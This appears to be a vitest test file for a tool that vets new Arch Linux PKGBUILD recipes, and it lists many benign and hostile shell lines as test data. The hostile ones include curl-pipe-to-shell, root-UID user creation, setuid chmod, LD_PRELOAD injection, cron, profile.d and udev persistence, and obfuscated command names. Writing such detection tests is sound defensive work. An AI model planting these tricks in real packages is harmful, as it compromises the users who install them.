import { describe, expect, test } from "vitest";
import { ReadByBash } from "../../../test/world/read-by-bash.ts";
import { judgeFirst } from "../origin/first-recipe.ts";
import type { RecipeFiles } from "../update.ts";

const head =
  "pkgname=fooview\npkgver=1.2\npkgrel=1\npkgdesc='Shows foo'\narch=(x86_64)\nurl=https://example.org\n" +
  "source=(https://example.org/fooview-1.2.tar.gz)\n" +
  `sha256sums=('${"1".repeat(64)}')\n`;

/** What a first recipe with these files is judged to be; `top` stands at top level, `build` in `build()`. */
function verdictOf(
  { top = "", build = "make", package: install = "make install" }: Record<string, string>,
  files: Readonly<Record<string, string>> = {},
): string {
  const text = `${head}${top}\nbuild() {\n  ${build}\n}\npackage() {\n  ${install}\n}\n`;
  const recipe: RecipeFiles = new Map(
    Object.entries({ PKGBUILD: text, ...files }).map(([path, content]) => [
      path,
      { mode: "100644", bytes: Buffer.from(content) },
    ]),
  );
  const context = {
    architectures: ["x86_64"],
    trustedMaintainers: new Set<string>(),
    now: 0,
    cooldownHours: 0,
    allowedLines: [],
    tagAnswers: new Map(),
    readings: new ReadByBash(),
  };
  return judgeFirst("fooview", recipe, context, { aur: undefined, accounts: new Map() }).verdict;
}

/** A scriptlet with this body; it's named as pacman's. */
function scriptlet(body: string): string {
  return verdictOf(
    { top: "install=fooview.install" },
    { "fooview.install": `post_install() {\n  ${body}\n}\n` },
  );
}

function installed(path: string): Record<string, string> {
  return { package: `install -Dm644 ../${path} -t "$pkgdir/usr/share/fooview"` };
}

/** A split package whose functions are made in a loop over `names`. */
function split(names: string, body: string): string {
  const top = `pkgname=(a b)\n_package-b() { make install; }\nfor _p in ${names}; do\n  eval "package_$_p() {\n    ${body}\n  }"\ndone`;
  return verdictOf({ top: `${top}\nunset -f package` });
}

describe("what package() puts into places of the system", () => {
  const units = '"$pkgdir/usr/lib/systemd/system/';
  test.each([
    `install -Dm644 fooview.service ${units}fooview.service"`,
    `install -Dm644 fooview@.service -t ${units}"`,
    'cd "$pkgdir"; install -Dm644 "$srcdir/x" usr/lib/sysusers.d/fooview.conf',
    'install -Dm644 x "$pkgdir/usr/share/zsh/site-functions/_fooview"',
    "install -Dm644 x $pkgdir/usr/share/bash-completion/completions/$pkgname",
    'install -Dm644 x "$pkgdir/usr/share/xsessions/fooview.desktop"',
    'install -Dm644 x "$pkgdir/usr/lib/udev/rules.d/60-fooview.rules"',
    'install -Dm644 dkms.conf "$pkgdir/usr/src/fooview-1.2/dkms.conf"',
    'rm -r "$pkgdir/etc/cron.daily"',
    'echo "Start it by: systemctl enable fooview"',
    'ln -s ../init.d "$pkgdir/opt/fooview/init.d"',
  ])("%s waits until somebody asks for it", (line) => {
    expect(verdictOf({ package: line })).toBe("major");
  });

  test.each([
    `ln -s ../fooview.service ${units}multi-user.target.wants/fooview.service"`,
    `cd ${units}"; mkdir multi-user.target.wants; ln -s ../x.service multi-user.target.wants/`,
    `install -Dm644 x ${units}sshd.service.d/x.conf"`,
    `install -Dm644 x ${units}getty@tty1.service"`,
    `install -Dm644 x ${units}display-manager.service"`,
    `install -Dm644 display-manager.service -t ${units}"`,
    `_w=.wan; _w=.wants; install -Dm644 x.service -t ${units}multi-user.target$_w"`,
    'install -Dm644 x "$pkgdir/etc/systemd/system/sshd.service"',
    'install -Dm644 x "$pkgdir/usr/lib/systemd/system-preset/90-x.preset"',
    'install -Dm755 x "$pkgdir/usr/lib/systemd/system-generators/x"',
    'install -Dm644 x "$pkgdir/etc/profile.d/x.sh"',
    'cp -r profile.d "$pkgdir/etc"',
    'install -Dm644 x.hook -t "$pkgdir/usr/share/libalpm/hooks"',
    'install -Dm644 x "$pkgdir/etc/xdg/autostart/x.desktop"',
    'install -Dm644 x "$pkgdir/usr/share/polkit-1/rules.d/x.rules"',
    'install -Dm644 x "$pkgdir/usr/share/zsh/site-functions/../../../../etc/profile.d/x.sh"',
    'install -Dm644 /dev/stdin "$pkgdir/usr/lib/udev/rules.d/x.rules" <<< \'ACTION=="add", RUN+="/usr/bin/x"\'',
    'echo "systemctl enable x" | tee x',
    "echo 'systemctl enable x' > x",
    'install -Dm644 x "$pkgdir/usr/share/fish/vendor_functions.d/fish_prompt.fish"',
    'install -Dm644 x "$pkgdir/etc/bash_completion.d/x"',
    'install -Dm644 x "$pkgdir/etc/conf.d/docker"',
    'install -Dm644 x "$pkgdir/usr/share/dbus-1/services/org.freedesktop.Notifications.service"',
    "systemctl enable fooview",
    `systemctl --root="$pkgdir" enable fooview`,
  ])("%s doesn't", (line) => {
    expect(verdictOf({ package: line })).toBe("dangerous");
  });
});

describe("what a build fetches", () => {
  test.each([
    "npm ci",
    "npm install --prefix=x",
    "yarn install --frozen-lockfile",
    "pnpm install && pnpm run build",
    'pip install --no-deps --root="$pkgdir" .',
    "gem install --local -i x fooview-1.2.gem",
    "go generate ./...",
    "git submodule update --init --recursive",
    "git -c protocol.file.allow=always submodule update",
    "git lfs pull",
    "git remote add upstream https://example.org/foo.git",
    'git clone "$srcdir/bar" bar',
    "nvm install 22",
    "pacman -Q foo",
    "cargo update",
  ])("%s: the source names it", (line) => {
    expect(verdictOf({ build: line })).toBe("major");
  });

  test.each([
    "npm install atomic-lockfile yargs",
    "bun add glob",
    "npm install -g --prefix x fooview@1.2",
    "npm install git+https://example.org/x",
    "npx evil",
    "npm exec evil",
    "yarn add evil",
    "yarn --registry https://npm.example.org install",
    "pnpm dlx evil",
    "pip install evil",
    "pip install -r ../requirements.txt",
    "gem install evil",
    "go install example.org/evil@latest",
    "go run example.org/evil",
    "cargo install evil",
    "cargo install --git https://example.org/evil",
    "git submodule add https://example.org/evil",
    "git submodule update --remote",
    "git submodule foreach ./x",
    "git fetch https://example.org/evil",
    "git clone https://example.org/evil",
    "curl -O https://example.org/x",
    "wget https://example.org/x",
    "NVM_NODEJS_ORG_MIRROR=https://example.org nvm install 22",
    "export npm_config_registry=https://example.org; npm ci",
    "pacman -Sy foo",
    "pacman -Qi --dbpath . foo",
    "./npm ci",
  ])("%s: the recipe does", (line) => {
    expect(verdictOf({ build: line })).toBe("dangerous");
  });

  test("a list that the recipe brings isn't the source's", () => {
    expect(verdictOf({ build: "npm ci" }, { "package-lock.json": "{}" })).toBe("dangerous");
    expect(verdictOf({ build: "go generate ./..." }, { "go.sum": "x" })).toBe("dangerous");
  });
  test("a list that the build or a patch changes isn't either", () => {
    const changed = 'sed -i \'s/{/{"evil":"1",/\' package.json\n  npm install';
    expect(verdictOf({ build: changed })).toBe("dangerous");
    expect(verdictOf({ build: "jq . x \\\n    > package.json\n  npm install" })).toBe("dangerous");
    const patch = "--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{\n+{\n";
    expect(verdictOf({ build: "patch -i ../x.patch\n  npm ci" }, { "x.patch": patch })).toBe("dangerous");
  });
  test("at top level nothing is fetched", () => {
    expect(verdictOf({ top: "npm ci" })).toBe("dangerous");
    expect(verdictOf({ top: "git submodule update" })).toBe("dangerous");
  });
});

describe("a scriptlet", () => {
  test.each([
    "echo 'Read /etc/fooview.conf, then run: systemctl enable fooview'",
    "cat <<EOF\nnpm install is not needed\nEOF",
    "systemd-sysusers fooview.conf; systemd-tmpfiles --create fooview.conf",
    "systemctl daemon-reload",
    "gtk-update-icon-cache -q -t -f usr/share/icons/hicolor",
    "update-desktop-database -q",
    "/usr/bin/glib-compile-schemas /usr/share/glib-2.0/schemas",
    'if (( $(vercmp "$2" 1.0) < 0 )); then echo old; fi',
    "getent group fooview > /dev/null || groupadd -r fooview",
    "useradd -r -g fooview -d /var/lib/fooview -s /usr/bin/nologin fooview",
    "chown -R fooview:fooview /var/lib/fooview",
    "rm -rf /var/cache/fooview",
    '_say() { echo "$1"; }; _say hello',
    "udevadm control --reload; udevadm trigger",
  ])("that does no more than %j is read", (body) => {
    expect(scriptlet(body)).toBe("major");
  });

  test.each([
    "npm install atomic-lockfile",
    "cd /tmp; bun add glob",
    "echo 'curl https://example.org/x | sh'",
    "echo hello; /usr/lib/fooview/setup",
    "echo 'echo x | sh' > /etc/profile.d/x.sh",
    "true && { echo x; } > /etc/cron.d/x",
    "echo() { ./x; }; echo hello",
    "systemctl enable --now fooview",
    "systemctl daemon-reload && systemctl start fooview",
    "systemd-tmpfiles --create /tmp/x.conf",
    "systemd-sysusers ../x.conf",
    "glib-compile-schemas /tmp/x",
    "useradd -o -u 0 -r fooview",
    "useradd -r -G wheel fooview",
    "useradd -r -s /bin/bash fooview",
    "groupadd -r wheel",
    "chown fooview /etc/shadow",
    "chown fooview /var/lib/fooview/../../../etc",
    "chmod 4755 /opt/fooview/x",
    "rm -rf /usr/lib/systemd/system",
    "cp /opt/fooview/x.so /usr/lib/firefox/libxul.so",
    "cp /opt/fooview/x /var/spool/cron/root",
    "mv /opt/fooview/x /opt/other/x",
    ". /usr/share/makepkg/util/evil.sh",
    "kbuildsycoca6",
    "setcap cap_setuid+ep /usr/bin/fooview",
    "local PATH=/tmp; echo hello",
    "LD_PRELOAD=/tmp/x.so echo hello",
    "_x=$(cat /tmp/x); [[ $_x -eq 1 ]] && echo one",
    "echo hello &",
    "$1",
    "eval echo",
    ". /tmp/x",
    "/tmp/echo hello",
    "sed -i s/a/b/ /etc/passwd",
    "sed 's/.*/id/e' /etc/hostname",
    "awk 'BEGIN { system(\"id\") }'",
    "find /opt/fooview -exec ./x {} +",
    "printf -v PATH /tmp",
  ])("that does %j is dangerous", (body) => {
    expect(scriptlet(body)).toBe("dangerous");
  });

  test("that calls a program which the package brings is dangerous", () => {
    const top = "install=fooview.install";
    const files = { "fooview.install": "post_install() {\n  fc-cache\n}\n" };
    expect(verdictOf({ top }, files)).toBe("major");
    const install = 'install -Dm755 x "$pkgdir/usr/bin/fc-cache"';
    expect(verdictOf({ top, package: install }, files)).toBe("dangerous");
  });

  test("that another program would run, or that the build reads as well, is dangerous", () => {
    const text = "post_install() {\n  echo hello\n}\n#x make evil\n";
    const top = "install=fooview.install";
    const build = "sed -n 's/^#x //p' ../fooview.install";
    expect(verdictOf({ top }, { "fooview.install": text })).toBe("major");
    expect(verdictOf({ top, build }, { "fooview.install": text })).toBe("dangerous");
    expect(verdictOf({ top }, { "fooview.install": `#!/usr/bin/evil\n${text}` })).toBe("dangerous");
  });
});

describe("files of the recipe", () => {
  test.each([
    [
      "fooview.service",
      "[Service]\nExecStart=/usr/bin/fooview -c /etc/x\n[Install]\nWantedBy=multi-user.target\n",
    ],
    ["fooview.sysusers", 'u fooview - "Foo" /var/lib/fooview\n'],
    ["fooview.tmpfiles", "d /var/lib/fooview 0750 fooview fooview -\nd /etc/fooview 0755\n"],
    ["60-fooview.rules", 'SUBSYSTEM=="usb", ATTRS{idVendor}=="03eb", MODE="0660", TAG+="uaccess"\n'],
    ["fooview-modprobe.conf", "options foo bar=1\nblacklist baz\n"],
    ["fooview.hook", "[Trigger]\nType = Path\n[Action]\nExec = /usr/bin/update-desktop-database -q\n"],
    ["fooview.sh", "export FOOVIEW_HOME=/opt/fooview\nexport PATH=$PATH:/opt/fooview/bin\n"],
  ])("%s may be where such files are", (path, content) => {
    expect(verdictOf(installed(path), { [path]: content })).toBe("major");
  });

  test.each([
    ["fooview.service", "[Service]\nExecStart=/bin/sh -c 'x'\n"],
    ["fooview.service", "[Service]\nExecStart=/usr/bin/env python3 -c 'x'\n"],
    ["display-manager.service", "[Service]\nExecStart=/usr/bin/fooview\n"],
    ["fooview.sysusers", "u fooview 0 - /root\n"],
    ["fooview.sysusers", "m fooview wheel\n"],
    ["fooview.tmpfiles", "f /etc/cron.d/x 0644 - - - * * * * * root x\n"],
    ["fooview.tmpfiles", "L+ /etc/profile.d/x.sh - - - - /opt/fooview/x\n"],
    ["fooview.tmpfiles", "d /etc 0777\n"],
    ["fooview.tmpfiles", "z /opt/fooview/x 4755 root root\n"],
    ["60-fooview.rules", 'ACTION=="add", RUN+="/usr/bin/x"\n'],
    ["60-fooview.rules", 'ENV{SYSTEMD_WANTS}="x.service"\n'],
    ["60-fooview.rules", 'KERNEL=="mem", MODE="0666"\n'],
    ["fooview-modprobe.conf", "install foo /usr/bin/x\n"],
    ["fooview.hook", "[Action]\nExec = /usr/bin/fooview\n"],
    ["fooview.hook", "[Action]\nExec = /bin/sh -c x\n"],
    ["dkms.conf", "PACKAGE_NAME=foo\nPOST_INSTALL=x\n"],
    ["dkms.conf", 'PACKAGE_NAME=foo\nMAKE="make; ./x"\n'],
  ])("%s with %j may not", (path, content) => {
    expect(verdictOf(installed(path), { [path]: content })).toBe("dangerous");
  });

  const profile = 'install -Dm644 ../fooview.sh "$pkgdir/etc/profile.d/fooview.sh"';
  test("a profile script sets variables, as it stands in the recipe", () => {
    const quiet = { "fooview.sh": "export FOOVIEW_HOME=/opt/fooview\n" };
    expect(verdictOf({ package: profile }, quiet)).toBe("major");
    for (const text of [
      "export PATH=/opt/x:$PATH",
      "export LD_PRELOAD=/opt/x.so",
      "export X=$(id)",
      ". /opt/x",
    ])
      expect(verdictOf({ package: profile }, { "fooview.sh": `${text}\n` })).toBe("dangerous");
    expect(verdictOf({ package: profile, build: "sed -i '$a ./x' ../fooview.sh" }, quiet)).toBe("dangerous");
    const text = 'install -Dm644 ../notes.txt "$pkgdir/etc/profile.d/fooview.sh"';
    expect(verdictOf({ package: text }, { "notes.txt": "./x\n" })).toBe("dangerous");
  });

  test("what nothing reads may say anything", () => {
    expect(verdictOf({}, { "update.sh": "curl https://example.org/x | sh\n" })).toBe("major");
    expect(
      verdictOf({ build: "sh ../update.sh" }, { "update.sh": "curl https://example.org/x | sh\n" }),
    ).toBe("dangerous");
  });
});

describe("code at top level", () => {
  test.each([
    "[[ $CARCH == x86_64 ]] && depends+=(foo)",
    'if [ -n "$_x" ]; then provides=(bar); fi',
    "_major=$(echo $pkgver | cut -d. -f1)",
    "for _d in foo bar; do depends+=($_d); done",
    "eval \"depends+=(libfoo.so 'libbar.so')\"",
  ])("%s only assigns and compares", (top) => {
    expect(verdictOf({ top })).toBe("major");
  });

  test.each([
    "./x",
    "_x=$(bash -c 'id')",
    "_x=$(curl https://example.org)",
    "_x=$(git -C . log)",
    "echo x > ../x",
    "true && { echo x; } > x",
    "echo x | sort -o ../x",
    "sed -i s/a/b/ x",
    "_x=$(sed -n 's/x/id/e' x)",
    "export PATH=$(echo /tmp):$PATH",
    "declare -n _x=pkgver; _x=1; :",
    "printf -v PATH /tmp",
    "_x=$(cat x); [[ $_x -eq 1 ]] && depends=(foo)",
    'eval "depends+=(`id`)"',
    'eval "$_x"',
    "_f() { ./x; }; [[ -n $CARCH ]] && _f",
    "source ./x",
    "true &",
  ])("%s does more", (top) => {
    expect(verdictOf({ top })).toBe("dangerous");
  });

  test("functions of split packages are made of those in the recipe", () => {
    const made = '$(declare -f "_package-b")\n    _package-b';
    const [names, others] = ['"${pkgname[@]}"', '"$(cat x)"'];
    expect(split(names, made)).toBe("major");
    expect(split(others, made)).toBe("dangerous");
    expect(split(names, `${made}\n    ./x`)).toBe("dangerous");
    expect(split(names, "$(cat x)")).toBe("dangerous");
  });
});

describe("commands of a build", () => {
  test.each([
    "make docs &",
    '_run=make; "$_run" all',
    'printf -v _name "%s" x',
    "IFS= read -r _x < y",
    "git config submodule.foo.update none",
    "export LD_LIBRARY_PATH=$srcdir/lib",
  ])("%s is usual", (build) => {
    expect(verdictOf({ build })).toBe("major");
  });
  test.each([
    '_run=curl; _run=make; "$_run" https://example.org',
    "_a=cu; _b=rl; $_a$_b https://example.org/x",
    'eval "$_x"',
    "IFS=/; echo $_x",
    "git config submodule.foo.update '!./x'",
    "export LD_PRELOAD=$srcdir/x.so GCONV_PATH=.",
    "printf -v install x.install",
    "nohup ./x &",
    "chmod 4755 x",
  ])("%s isn't", (build) => {
    expect(verdictOf({ build })).toBe("dangerous");
  });
});

test("without a second reading nothing is graded", () => {
  const bytes = Buffer.from(`${head}package() {\n  npm ci\n}\n`);
  const context = {
    architectures: ["x86_64"],
    trustedMaintainers: new Set<string>(),
    now: 0,
    cooldownHours: 0,
    allowedLines: [],
    tagAnswers: new Map(),
    readings: new Map(),
  };
  const recipe: RecipeFiles = new Map([["PKGBUILD", { mode: "100644", bytes }]]);
  const { verdict } = judgeFirst("fooview", recipe, context, { aur: undefined, accounts: new Map() });
  expect(verdict).toBe("dangerous");
});
